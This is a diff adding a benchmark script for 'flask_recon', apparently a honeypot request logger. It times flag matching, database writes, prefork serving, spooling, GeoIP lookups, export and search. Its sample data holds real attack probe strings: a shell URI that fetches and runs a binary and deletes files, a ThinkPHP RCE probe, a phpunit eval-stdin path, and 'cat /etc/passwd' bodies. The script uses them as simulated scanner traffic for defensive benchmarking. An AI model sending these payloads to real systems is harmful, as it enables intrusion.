@@ -0,0 +1,598 @@
+from concurrent.futures import ThreadPoolExecutor, ProcessPoolExecutor
+from datetime import datetime
+from functools import partial
+from http.client import HTTPConnection
+from json import dumps, loads
+from logging import getLogger, ERROR
+from multiprocessing import Process
+from os import cpu_count, kill, remove
+from random import Random
+from re import findall
+from shutil import rmtree
+from signal import SIGTERM
+from socket import create_connection
+from string import ascii_lowercase, digits
+from tempfile import NamedTemporaryFile, mkdtemp
+from time import perf_counter, sleep
+from tracemalloc import start as start_tracing, stop as stop_tracing, get_traced_memory
+from typing import List, Callable, Dict, Any, Optional, Tuple, TYPE_CHECKING
+
+from psycopg2 import Error
+
+from flask import Flask
+
+from flask_recon import DatabaseHandler, IncomingRequest, Listener, RequestMethod
+from flask_recon.database import REQUEST_DETAIL_FIELDS
+from flask_recon.export import batched, export_response
+from flask_recon.flags import KnownFlags, Flag
+from flask_recon.geoip import GeoIndex, compile_index
+from flask_recon.rates import RateTracker
+from flask_recon.spool import CircuitBreaker, Spool, SpoolReplayer
+from flask_recon.structures import classify_rows
+
+if TYPE_CHECKING:
+    from flask_recon.writer import RequestWriter
+
+SAMPLE_URIS = [
+    "/",
+    "/robots.txt",
+    "/cms/wp-includes/wlwmanifest.xml",
+    "/.env",
+    "/cgi-bin/luci/;stok=/locale",
+    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+    "/admin/config.php",
+    "/shell?cd+/tmp;rm+-rf+*;wget+http://0.0.0.0/jaws;sh+/tmp/jaws",
+    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP",
+    "/api/v1/pods",
+    "/owa/auth/logon.aspx",
+    "/static/js/main.4f6a1c2b.chunk.js",
+]
+SAMPLE_USER_AGENTS = [
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/95.0.4638.69 Safari/537.36",
+    "Mozilla/5.0 zgrab/0.x",
+    "python-requests/2.31.0",
+    "curl/7.88.1",
+    "sqlmap/1.7.2#stable (https://sqlmap.org)",
+    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+]
+
+
+def generate_flags_file(payload_count: int, ua_count: int, seed: int = 0) -> str:
+    """
+    Writes a flags file containing the real flags from static/flags.json padded with random flags
+    :param payload_count: total number of payload flags
+    :param ua_count: total number of user agent flags
+    :param seed:
+    :return: path of the generated file
+    """
+    rng = Random(seed)
+    flag_data = loads(open("static/flags.json").read())
+    alphabet = ascii_lowercase + digits + "-_./"
+    for key, count in (("payload", payload_count), ("user_agent", ua_count)):
+        while len(flag_data[key]) < count:
+            flag_data[key].append({
+                "flag": "".join(rng.choice(alphabet) for _ in range(rng.randint(3, 12))),
+                "score": rng.randint(1, 10),
+                "request_types": ["RECON"],
+            })
+
+    with NamedTemporaryFile("w", suffix=".json", delete=False) as f:
+        f.write(dumps(flag_data))
+    return f.name
+
+
+def naive_match(value: str, flags: List[Flag]) -> List[Flag]:
+    return [flag for flag in flags if flag.flag in value]
+
+
+def time_per_call(func: Callable[[str], List[Flag]], values: List[str], rounds: int) -> float:
+    start = perf_counter()
+    for _ in range(rounds):
+        for value in values:
+            func(value)
+    return (perf_counter() - start) / (rounds * len(values))
+
+
+def benchmark_flag_matching(sizes: List[int] = (60, 250, 1_000, 5_000), rounds: int = 200):
+    print(f"{'flags':>8} {'naive (us)':>12} {'automaton (us)':>15} {'speedup':>8}")
+    for size in sizes:
+        flags_file = generate_flags_file(payload_count=size, ua_count=max(18, size // 3))
+        try:
+            known_flags = KnownFlags(flags_file)
+        finally:
+            remove(flags_file)
+
+        payload_flags, payload_matcher = known_flags.known_payload_flags, known_flags.payload_matcher
+        ua_flags, ua_matcher = known_flags.known_ua_flags, known_flags.ua_matcher
+        for value in SAMPLE_URIS:
+            assert naive_match(value, payload_flags) == payload_matcher.match(value)
+        for value in SAMPLE_USER_AGENTS:
+            assert naive_match(value, ua_flags) == ua_matcher.match(value)
+
+        naive = (time_per_call(lambda v: naive_match(v, payload_flags), SAMPLE_URIS, rounds) +
+                 time_per_call(lambda v: naive_match(v, ua_flags), SAMPLE_USER_AGENTS, rounds))
+        automaton = (time_per_call(payload_matcher.match, SAMPLE_URIS, rounds) +
+                     time_per_call(ua_matcher.match, SAMPLE_USER_AGENTS, rounds))
+        print(f"{size:>8} {naive * 1e6:>12.2f} {automaton * 1e6:>15.2f} {naive / automaton:>7.2f}x")
+
+
+def sample_request(rng: Random) -> IncomingRequest:
+    return IncomingRequest(80).from_components(
+        host=f"10.0.{rng.randint(0, 3)}.{rng.randint(1, 50)}",
+        request_method=rng.choice([RequestMethod.GET, RequestMethod.POST, RequestMethod.HEAD]),
+        request_headers={"Host": "127.0.0.1", "User-Agent": rng.choice(SAMPLE_USER_AGENTS)},
+        request_uri=rng.choice(SAMPLE_URIS).split("?")[0],
+        query_string="",
+        request_body={},
+        timestamp=datetime.now(),
+    )
+
+
+def stress_database(dbname: str, threads: int = 32, inserts_per_thread: int = 200, reads_per_thread: int = 5):
+    """
+    Hammers insert_request and get_remote_hosts from many threads sharing one DatabaseHandler. Expects a scratch
+    database created from scripts/up.sql.
+    """
+    database_handler = DatabaseHandler(dbname=dbname, user="postgres", password="postgres", host="localhost",
+                                       port="5432", max_connections=threads // 2)
+    before = database_handler.get_request_count()
+
+    def insert_worker(seed: int) -> int:
+        rng = Random(seed)
+        for _ in range(inserts_per_thread):
+            database_handler.insert_request(sample_request(rng))
+        return inserts_per_thread
+
+    def read_worker(_: int) -> int:
+        for _ in range(reads_per_thread):
+            for host in database_handler.get_remote_hosts():
+                assert host[3] == host[1] + host[2]
+        return 0
+
+    start = perf_counter()
+    with ThreadPoolExecutor(max_workers=threads) as executor:
+        inserts = executor.map(insert_worker, range(threads // 2))
+        reads = executor.map(read_worker, range(threads - threads // 2))
+        inserted = sum(inserts)
+        insert_elapsed = perf_counter() - start
+        list(reads)
+    elapsed = perf_counter() - start
+
+    assert database_handler.get_request_count() - before == inserted
+    print(f"{inserted} inserts in {insert_elapsed:.2f}s ({inserted / insert_elapsed:.0f} inserts/s), "
+          f"{(threads - threads // 2) * reads_per_thread} concurrent host listings finished after {elapsed:.2f}s")
+    database_handler.close()
+
+
+def benchmark_capture(dbname: str, requests: int = 2_000, seed: int = 0):
+    """
+    Sends the same scanner-like requests through the error handler with synchronous writes, async ingestion and
+    capture mode, reporting the latency of the handler alone and of the whole request as seen by a test client, and
+    how long the queue took to drain. Expects a token file in the working directory and a scratch database created
+    from scripts/up.sql.
+    """
+    rng = Random(seed)
+    sample = []
+    for _ in range(requests):
+        method = rng.choice(["GET", "POST", "HEAD"])
+        path, _, query_string = rng.choice(SAMPLE_URIS).partition("?")
+        sample.append({"method": method, "path": path, "query_string": query_string,
+                       "headers": {"User-Agent": rng.choice(SAMPLE_USER_AGENTS), "Accept": "*/*"},
+                       "json": {"cmd": "id"} if method == "POST" else None,
+                       "environ_base": {"REMOTE_ADDR": f"10.0.{rng.randint(0, 3)}.{rng.randint(1, 50)}"}})
+    modes = {
+        "sync": lambda listener: None,
+        "async": lambda listener: listener.enable_async_ingestion(),
+        "capture": lambda listener: listener.enable_capture(),
+    }
+
+    print(f"{'mode':<8} {'handler mean (ms)':>18} {'request mean (ms)':>18} {'request p99 (ms)':>17} "
+          f"{'drain (s)':>10} {'stored':>7}")
+    for mode, enable in modes.items():
+        flask = Flask(__name__)
+        listener = Listener(flask, halt_scanner_threads=False)
+        listener.connect_database(dbname=dbname, user="postgres", password="postgres", host="localhost", port="5432")
+        enable(listener)
+        before = listener.database_handler.get_request_count()
+
+        handler = 0.0
+        for kwargs in sample:
+            with flask.test_request_context(**kwargs):
+                start = perf_counter()
+                listener.error_handler(None)
+                handler += perf_counter() - start
+
+        # lets the queued requests drain, so the writer thread is idle again while the client is timed
+        sleep(2)
+        client = flask.test_client()
+        latencies = []
+        for kwargs in sample:
+            start = perf_counter()
+            client.open(**kwargs)
+            latencies.append(perf_counter() - start)
+
+        start = perf_counter()
+        listener.close()
+        drain = perf_counter() - start
+        stored = listener.database_handler.get_request_count() - before
+        listener.database_handler.close()
+
+        latencies.sort()
+        print(f"{mode:<8} {handler / len(sample) * 1e3:>18.3f} {sum(latencies) / len(latencies) * 1e3:>18.3f} "
+              f"{latencies[int(len(latencies) * 0.99)] * 1e3:>17.3f} {drain:>10.2f} {stored:>7}")
+
+
+def create_bench_listener(dbname: str, port: int, writer: Optional["RequestWriter"] = None) -> Listener:
+    getLogger("werkzeug").setLevel(ERROR)
+    listener = Listener(Flask(__name__), halt_scanner_threads=False, port=port)
+    if writer is not None:
+        listener.connect_database(dbname=dbname, user="postgres", password="postgres", host="localhost", port="5432",
+                                  min_connections=0, max_connections=2, background_jobs=False)
+        listener.enable_writer(writer)
+    else:
+        listener.connect_database(dbname=dbname, user="postgres", password="postgres", host="localhost", port="5432")
+    listener.enable_capture()
+    return listener
+
+
+def send_requests(port: int, requests: int, seed: int) -> int:
+    rng = Random(seed)
+    for _ in range(requests):
+        connection = HTTPConnection("127.0.0.1", port)
+        connection.request("GET", rng.choice(SAMPLE_URIS), headers={"User-Agent": rng.choice(SAMPLE_USER_AGENTS)})
+        connection.getresponse().read()
+        connection.close()
+    return requests
+
+
+def benchmark_prefork(dbname: str, workers: List[int] = (1, 2, 4), requests: int = 4_000, clients: int = 8,
+                      port: int = 8089):
+    """
+    Load tests PreforkServer in capture mode with each number of workers, from clients processes that each open a new
+    connection per request, reporting requests per second. Expects a token file in the working directory and a
+    scratch database created from scripts/up.sql.
+    """
+    # imported here because os.fork does not exist on Windows
+    from flask_recon.prefork import PreforkServer
+
+    print(f"{cpu_count()} CPUs")
+    print(f"{'workers':>7} {'requests':>9} {'time (s)':>9} {'requests/s':>11}")
+    for count in workers:
+        server = PreforkServer(partial(create_bench_listener, dbname, port), "127.0.0.1", port, count)
+        process = Process(target=server.run)
+        process.start()
+        for _ in range(100):
+            try:
+                create_connection(("127.0.0.1", port)).close()
+                break
+            except OSError:
+                sleep(0.1)
+
+        start = perf_counter()
+        with ProcessPoolExecutor(clients) as executor:
+            sent = sum(executor.map(partial(send_requests, port), [requests // clients] * clients, range(clients)))
+        elapsed = perf_counter() - start
+        kill(process.pid, SIGTERM)
+        process.join()
+        print(f"{count:>7} {sent:>9} {elapsed:>9.2f} {sent / elapsed:>11.0f}")
+
+
+def benchmark_writer(dbname: str, workers: int = 4, requests: int = 4_000, clients: int = 4, port: int = 8089):
+    """
+    Load tests PreforkServer in capture mode with every worker writing for itself and with a single RequestWriter,
+    reporting the throughput, the commits the database saw, and the most connections it had open to dbname at once.
+    Expects a token file in the working directory and a scratch database created from scripts/up.sql.
+    """
+    # imported here because os.fork, SIGHUP and AF_UNIX do not exist on Windows
+    from flask_recon.prefork import PreforkServer
+    from flask_recon.writer import RequestWriter
+
+    database_config = {"dbname": dbname, "user": "postgres", "password": "postgres", "host": "localhost",
+                       "port": "5432"}
+    monitor = DatabaseHandler(**database_config, max_connections=1)
+
+    def database_stats() -> Tuple[int, int]:
+        with monitor.cursor() as cur:
+            cur.execute("SELECT xact_commit, (SELECT COUNT(*) FROM pg_stat_activity WHERE datname = %s) "
+                        "FROM pg_stat_database WHERE datname = %s", (dbname, dbname))
+            return cur.fetchone()
+
+    print(f"{'topology':<9} {'requests/s':>11} {'stored':>7} {'commits':>8} {'peak connections':>17}")
+    for topology in ("direct", "writer"):
+        writer = RequestWriter(database_config) if topology == "writer" else None
+        server = PreforkServer(partial(create_bench_listener, dbname, port, writer), "127.0.0.1", port, workers,
+                               writer=writer)
+        before = monitor.get_request_count()
+        commits_before, _ = database_stats()
+        process = Process(target=server.run)
+        process.start()
+        for _ in range(100):
+            try:
+                create_connection(("127.0.0.1", port)).close()
+                break
+            except OSError:
+                sleep(0.1)
+
+        peak = 0
+        start = perf_counter()
+        with ProcessPoolExecutor(clients) as executor:
+            futures = [executor.submit(send_requests, port, requests // clients, seed) for seed in range(clients)]
+            while not all(future.done() for future in futures):
+                # the monitor's own connection is not counted
+                peak = max(peak, database_stats()[1] - 1)
+                sleep(0.2)
+            sent = sum(future.result() for future in futures)
+        elapsed = perf_counter() - start
+        kill(process.pid, SIGTERM)
+        process.join()
+
+        # statistics reach pg_stat_database shortly after each backend commits
+        sleep(2)
+        commits = database_stats()[0] - commits_before
+        stored = monitor.get_request_count() - before
+        print(f"{topology:<9} {sent / elapsed:>11.0f} {stored:>7} {commits:>8} {peak:>17}")
+    monitor.close()
+
+
+def benchmark_spool(dbname: str, requests: int = 20_000, segment_size: int = 1024 * 1024, batch_size: int = 1_000,
+                    seed: int = 0):
+    """
+    Appends requests to a spool one at a time, as the request threads do while the database is down, reads them back
+    through mmap, and replays them into a scratch database created from scripts/up.sql, reporting requests per second
+    for each step.
+    """
+    rng = Random(seed)
+    sample = [sample_request(rng) for _ in range(requests)]
+    directory = mkdtemp(prefix="flask-recon-spool-")
+    database_handler = DatabaseHandler(dbname=dbname, user="postgres", password="postgres", host="localhost",
+                                       port="5432")
+    try:
+        spool = Spool(directory, segment_size=segment_size)
+        start = perf_counter()
+        for request in sample:
+            spool.append([request])
+        spool.rotate()
+        elapsed = perf_counter() - start
+        print(f"append  {requests} requests in {elapsed:.2f}s ({requests / elapsed:.0f}/s), "
+              f"{len(spool.segments())} segments, {spool.size / 1024 / 1024:.1f} MiB")
+
+        start = perf_counter()
+        read = sum(1 for segment in spool.segments() for _, record in spool.read(segment) if Spool.decode(record))
+        elapsed = perf_counter() - start
+        print(f"read    {read} requests in {elapsed:.2f}s ({read / elapsed:.0f}/s)")
+
+        before = database_handler.get_request_count()
+        replayer = SpoolReplayer(database_handler, spool, CircuitBreaker(), batch_size=batch_size, max_rate=None)
+        start = perf_counter()
+        replayed = replayer.replay()
+        elapsed = perf_counter() - start
+        print(f"replay  {replayed} requests in {elapsed:.2f}s ({replayed / elapsed:.0f}/s), "
+              f"{database_handler.get_request_count() - before} stored, {len(spool.segments())} segments left")
+    finally:
+        database_handler.close()
+        rmtree(directory)
+
+
+def benchmark_rate_tracking(actors: int = 20_000, requests: int = 200_000, seed: int = 0):
+    """
+    Records requests from actors random hosts in a RateTracker sized to hold them all, reporting requests recorded
+    per second, the memory held per actor and how long finding the busiest actors takes.
+    """
+    rng = Random(seed)
+    hosts = [f"10.{i // 65536}.{i // 256 % 256}.{i % 256}" for i in range(actors)]
+    sample = [rng.choice(hosts) for _ in range(requests)]
+
+    rate_tracker = RateTracker(max_actors=actors)
+    start = perf_counter()
+    for host in sample:
+        rate_tracker.record(host)
+    elapsed = perf_counter() - start
+
+    # measured separately, as tracing slows recording down several times over
+    start_tracing()
+    traced = RateTracker(max_actors=actors)
+    for host in hosts:
+        traced.record(host)
+    current, _ = get_traced_memory()
+    stop_tracing()
+    print(f"record  {requests} requests in {elapsed:.2f}s ({requests / elapsed:.0f}/s), "
+          f"{rate_tracker.stats['actors']} actors, {current / actors:.0f} bytes per actor")
+
+    for window in rate_tracker.windows:
+        start = perf_counter()
+        rate_tracker.top(window, 10)
+        print(f"top {window:<3} {(perf_counter() - start) * 1000:.1f}ms")
+
+
+def benchmark_geoip(source: str, lookups: int = 200_000, seed: int = 0):
+    """
+    Compiles the GeoIP dataset at source if its index is missing or stale, then times lookups of random IPv4
+    addresses, reporting microseconds per lookup and how many were found.
+    """
+    start = perf_counter()
+    geo_index = GeoIndex(compile_index(source))
+    print(f"open    {(perf_counter() - start) * 1000:.1f}ms, {geo_index.counts}")
+
+    rng = Random(seed)
+    addresses = [".".join(str(rng.randint(0, 255)) for _ in range(4)) for _ in range(lookups)]
+    start = perf_counter()
+    hits = sum(geo_index.lookup(address) is not None for address in addresses)
+    elapsed = perf_counter() - start
+    print(f"lookup  {elapsed / lookups * 1_000_000:.2f}us per address, {hits / lookups:.0%} found")
+    geo_index.close()
+
+
+def benchmark_export(dbname: str, export_format: str = "csv", compress: bool = False):
+    """
+    Streams every request in the database through export_response twice: once timed, and once under tracemalloc to
+    report peak Python memory, which should not grow with the number of rows.
+    """
+    database_handler = DatabaseHandler(dbname=dbname, user="postgres", password="postgres", host="localhost",
+                                       port="5432")
+
+    def export() -> int:
+        response = export_response(database_handler.stream_requests(), export_format, "requests", compress=compress)
+        return sum(len(chunk) for chunk in response.response)
+
+    start = perf_counter()
+    exported = export()
+    elapsed = perf_counter() - start
+    start_tracing()
+    export()
+    _, peak = get_traced_memory()
+    stop_tracing()
+    rows = database_handler.get_request_count()
+    print(f"{rows} rows ({exported / 1024 ** 2:.1f} MiB) in {elapsed:.2f}s ({rows / elapsed:.0f} rows/s), "
+          f"peak traced memory {peak / 1024 ** 2:.1f} MiB")
+    database_handler.close()
+
+
+def benchmark_request_memory(dbname: str, rows: int = 100_000):
+    """
+    Reads the newest rows requests as a list of IncomingRequest and as a RequestBatch, with and without headers and
+    bodies, reporting the Python memory each result holds and the peak while it was built.
+    """
+    database_handler = DatabaseHandler(dbname=dbname, user="postgres", password="postgres", host="localhost",
+                                       port="5432")
+    readers = {
+        "IncomingRequest list": lambda fields: database_handler.get_requests(limit=rows, fields=fields),
+        "RequestBatch": lambda fields: database_handler.get_request_batch(limit=rows, fields=fields),
+    }
+
+    print(f"{'reader':<22} {'fields':<14} {'rows':>8} {'held (MiB)':>11} {'peak (MiB)':>11} {'time (s)':>9}")
+    for name, read in readers.items():
+        for fields in ((), REQUEST_DETAIL_FIELDS):
+            start_tracing()
+            start = perf_counter()
+            result = read(fields)
+            elapsed = perf_counter() - start
+            held, peak = get_traced_memory()
+            stop_tracing()
+            print(f"{name:<22} {','.join(fields) or '-':<14} {len(result):>8} {held / 1024 ** 2:>11.1f} "
+                  f"{peak / 1024 ** 2:>11.1f} {elapsed:>9.2f}")
+            del result
+    database_handler.close()
+
+
+def benchmark_scoring(dbname: str, rows: int = 100_000):
+    """
+    Scores the first rows requests one at a time with determine_threat_level and in one batch with score_rows,
+    reporting requests per second for each and checking that both give the same classifications.
+    """
+    # imported here, as scoring requires numpy, which the other benchmarks do not
+    from flask_recon.scoring import score_rows
+
+    database_handler = DatabaseHandler(dbname=dbname, user="postgres", password="postgres", host="localhost",
+                                       port="5432")
+    stream = database_handler.stream_classification_rows(0, 10_000)
+    sample = next(batched(stream, rows), ())
+    stream.close()
+    database_handler.close()
+
+    results = {}
+    for name, score in (("per request", classify_rows), ("batch", score_rows)):
+        start = perf_counter()
+        results[name] = score(list(sample))
+        elapsed = perf_counter() - start
+        print(f"{name:<12} {len(sample)} requests in {elapsed:.2f}s ({len(sample) / elapsed:.0f}/s)")
+    mismatched = sum(a != b for a, b in zip(results["per request"], results["batch"]))
+    print(f"{mismatched} of {len(sample)} classifications differ")
+
+
+SEARCH_QUERIES: List[Dict[str, Any]] = [
+    {"uri": "phpunit"},
+    {"uri": "wlwmanifest", "case_sensitive": True},
+    {"uri": "wp-login.php"},
+    {"query_string": "wget"},
+    {"query_string": "0.0.0.0/97000"},
+    {"headers": "zgrab"},
+    {"headers": "masscan"},
+    {"headers": "nmap", "full_text": True},
+    {"headers": "masscan", "full_text": True},
+    {"body": "passwd"},
+    {"body": "cat", "full_text": True},
+    {"host": "172.16.3."},
+    {"host": "172.16.39.249"},
+    {"uri": "eval-stdin", "headers": "python-requests", "all_must_match": True},
+]
+
+
+def count_stored_requests(database_handler: DatabaseHandler) -> int:
+    # get_request_count sums endpoint_stats, which rows inserted straight into requests do not reach
+    with database_handler.cursor() as cur:
+        cur.execute("SELECT COUNT(*) FROM requests")
+        return cur.fetchone()[0]
+
+
+def generate_search_dataset(database_handler: DatabaseHandler, rows: int, actors: int = 10_000):
+    """Tops the requests table up to rows requests spread over actors hosts, using the sample URIs and user agents."""
+    missing = rows - count_stored_requests(database_handler)
+    if missing <= 0:
+        return
+    with database_handler.cursor() as cur:
+        cur.execute("INSERT INTO actors (host) SELECT '172.16.' || (i / 250) || '.' || (i %% 250) "
+                    "FROM generate_series(0, %s) i ON CONFLICT DO NOTHING", (actors - 1,))
+        cur.execute("""
+            WITH "ids" AS (SELECT array_agg("actor_id") AS "ids" FROM "actors" WHERE "host" LIKE '172.16.%%')
+            INSERT INTO "requests" ("actor_id", "timestamp", "method", "path", "body", "headers", "query_string",
+                                    "port", "acceptable", "threat_level")
+            SELECT "ids"[1 + i %% cardinality("ids")],
+                   NOW() - make_interval(secs => i),
+                   (ARRAY['GET', 'POST', 'HEAD'])[1 + i %% 3],
+                   split_part((%(uris)s::text[])[1 + i %% cardinality(%(uris)s::text[])], '?', 1),
+                   CASE WHEN i %% 50 = 0 THEN '{"cmd": "cat /etc/passwd"}' ELSE '{}' END::jsonb,
+                   jsonb_build_object('Host', '127.0.0.1', 'Accept', '*/*',
+                                      'User-Agent', (%(uas)s::text[])[1 + (i / 7) %% cardinality(%(uas)s::text[])]),
+                   CASE WHEN i %% 97 = 0 THEN 'cd+/tmp;wget+http://0.0.0.0/' || i ELSE 'page=' || (i %% 40) END,
+                   80, FALSE, i %% 11
+            FROM generate_series(1, %(missing)s) i, "ids"
+        """, {"uris": SAMPLE_URIS, "uas": SAMPLE_USER_AGENTS, "missing": missing})
+        cur.execute("ANALYZE requests")
+
+
+def time_searches(database_handler: DatabaseHandler, rounds: int) -> List[float]:
+    timings = []
+    for query in SEARCH_QUERIES:
+        start = perf_counter()
+        for _ in range(rounds):
+            database_handler.search(**query, limit=100)
+        timings.append((perf_counter() - start) / rounds)
+    return timings
+
+
+def benchmark_search(dbname: str, rows: int = 1_000_000, rounds: int = 3):
+    """
+    Times DatabaseHandler.search over a generated dataset without the trigram and tsvector indexes from
+    scripts/up.sql, then builds them and times the same searches again. Expects a scratch database created from
+    scripts/up.sql.
+    """
+    database_handler = DatabaseHandler(dbname=dbname, user="postgres", password="postgres", host="localhost",
+                                       port="5432")
+    generate_search_dataset(database_handler, rows)
+    indexes = findall(r'(CREATE INDEX IF NOT EXISTS "(\w+_(?:trgm|tsv)_idx)"[^;]*)', open("scripts/up.sql").read())
+    with database_handler.cursor() as cur:
+        for _, index in indexes:
+            cur.execute(f'DROP INDEX IF EXISTS "{index}"')
+    before = time_searches(database_handler, rounds)
+
+    start = perf_counter()
+    for statement, _ in indexes:
+        try:
+            with database_handler.cursor() as cur:
+                cur.execute(statement)
+        except Error as e:
+            print(f"Skipping index: {str(e).strip()}")
+    with database_handler.cursor() as cur:
+        cur.execute("ANALYZE requests")
+    print(f"Built search indexes over {count_stored_requests(database_handler)} requests in "
+          f"{perf_counter() - start:.1f}s")
+    after = time_searches(database_handler, rounds)
+
+    print(f"{'query':<80} {'before (ms)':>12} {'after (ms)':>11}")
+    for query, before_time, after_time in zip(SEARCH_QUERIES, before, after):
+        print(f"{str(query):<80} {before_time * 1e3:>12.1f} {after_time * 1e3:>11.1f}")
+    database_handler.close()
+
+
+if __name__ == '__main__':
+    benchmark_flag_matching()